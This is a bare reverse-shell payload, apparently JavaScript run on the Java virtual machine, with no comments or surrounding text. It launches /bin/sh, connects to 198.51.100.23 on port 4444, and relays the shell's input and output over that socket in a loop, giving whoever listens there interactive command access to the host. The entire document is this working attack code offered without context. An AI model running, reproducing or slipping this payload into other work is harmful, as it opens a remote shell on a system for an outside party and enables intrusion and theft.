var p = new java.lang.ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
var s = new java.net.Socket("198.51.100.23", 4444);
var pi = p.getInputStream(), si = s.getInputStream(), po = p.getOutputStream(), so = s.getOutputStream();
while (!s.isClosed()) {
  while (pi.available() > 0) so.write(pi.read());
  while (si.available() > 0) po.write(si.read());
  so.flush(); po.flush();
  java.lang.Thread.sleep(50);
}
